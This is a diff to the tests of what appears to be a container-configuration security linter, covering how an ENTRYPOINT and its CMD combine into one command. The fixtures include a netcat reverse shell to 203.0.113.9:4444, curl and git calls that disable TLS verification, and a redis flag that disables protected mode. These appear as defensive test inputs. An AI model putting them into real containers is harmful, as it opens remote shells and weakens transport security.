@@ -3,7 +3,7 @@ import type { Files } from '../properties/repository.ts';
 import { scanFiles } from '../properties/soundness.ts';
 
 const TOLD =
-  /^(?:password-set-in-image|package-signature-disabled|tls-verify-disabled|sudoers-nopasswd|command-secret)$/;
+  /^(?:obfuscated-exec|command-hidden-code|insecure-daemon-flag|password-set-in-image|package-signature-disabled|tls-verify-disabled|sudoers-nopasswd|command-secret)$/;
 
 /** What rules report about the commands that start with a container, with the line. */
 async function told(files: Files): Promise<readonly string[]> {
@@ -61,4 +61,60 @@ describe('dangers of RUN in what starts with a container', () => {
   ])('report no password in the command of a service: %s', async (command) =>
     expect(await told(service(command))).toEqual([]),
   );
+});
+
+const ADDRESS = 'https://files.example.com/t.tgz';
+const PARTS = 'FROM debian:13-slim\nUSER 1000\n';
+
+describe('an ENTRYPOINT and its CMD', () => {
+  it.each([
+    ['options of a program', `ENTRYPOINT ["curl"]\nCMD ["-k", "-o", "t", "${ADDRESS}"]`, 'tls-verify-disabled 4'],
+    ['an option after an operand', `ENTRYPOINT ["curl"]\nCMD ["${ADDRESS}", "-k"]`, 'tls-verify-disabled 4'],
+    [
+      'an operand of git',
+      `ENTRYPOINT ["git"]\nCMD ["clone", "-c", "http.sslVerify=false", "${ADDRESS}"]`,
+      'tls-verify-disabled 4',
+    ],
+    ['a wrapper', `ENTRYPOINT ["tini", "--", "curl"]\nCMD ["-k", "${ADDRESS}"]`, 'tls-verify-disabled 4'],
+    ['the other order', `CMD ["-k", "${ADDRESS}"]\nENTRYPOINT ["curl"]`, 'tls-verify-disabled 3'],
+    [
+      'an option of ENTRYPOINT, reported once',
+      `ENTRYPOINT ["curl", "-k"]\nCMD ["${ADDRESS}"]`,
+      'tls-verify-disabled 3',
+    ],
+    ['an open shell', 'ENTRYPOINT ["nc"]\nCMD ["-e", "/bin/sh", "203.0.113.9", "4444"]', 'obfuscated-exec 3'],
+    ['another stage', `ENTRYPOINT ["wget"]\nFROM debian:13-slim\nUSER 1000`, undefined],
+    ['a program that checks', `ENTRYPOINT ["curl"]\nCMD ["-fsSL", "${ADDRESS}"]`, undefined],
+    ['a program that connects', 'ENTRYPOINT ["nc"]\nCMD ["-z", "db", "5432"]', undefined],
+    ['an unknown program', `ENTRYPOINT ["acme"]\nCMD ["-k", "${ADDRESS}"]`, undefined],
+  ])('are one command: %s', async (_name, instructions, expected) => {
+    const found = await told({ Dockerfile: `${PARTS}${instructions}\n` });
+    expect(found).toEqual(expected === undefined ? [] : [expected.replace(' ', ' Dockerfile:')]);
+  });
+
+  it('are one command of a stage that is built on another one', async () => {
+    const dockerfile = `FROM debian:13-slim AS base\nENTRYPOINT ["curl"]\nFROM base\nUSER 1000\nCMD ["-k", "${ADDRESS}"]\n`;
+    expect(await told({ Dockerfile: dockerfile })).toEqual(['tls-verify-disabled Dockerfile:5']);
+  });
+
+  it.each([
+    ['-k', ['tls-verify-disabled start.sh:2']],
+    ['-f', []],
+  ])('are one command of an entry point: %s', async (option, expected) => {
+    const files = entry(`curl "$@" -o t ${ADDRESS}`);
+    const dockerfile = `${files['Dockerfile']}CMD ["${option}"]\n`;
+    expect(await told({ ...files, Dockerfile: dockerfile })).toEqual(expected);
+  });
+
+  it.each([
+    ['nc', '-e /bin/sh 203.0.113.9 4444', ['command-hidden-code compose.yaml:4']],
+    ['nc', '-z db 5432', []],
+    ['redis-server', '--protected-mode no', ['insecure-daemon-flag compose.yaml:4']],
+  ])('are one command in a service: %s %s', async (program, command, expected) => {
+    const files = {
+      Dockerfile: `${PARTS}ENTRYPOINT ["${program}"]\n`,
+      'compose.yaml': `services:\n  app:\n    build: .\n    command: ${command}\n`,
+    };
+    expect(await told(files)).toEqual(expected);
+  });
 });
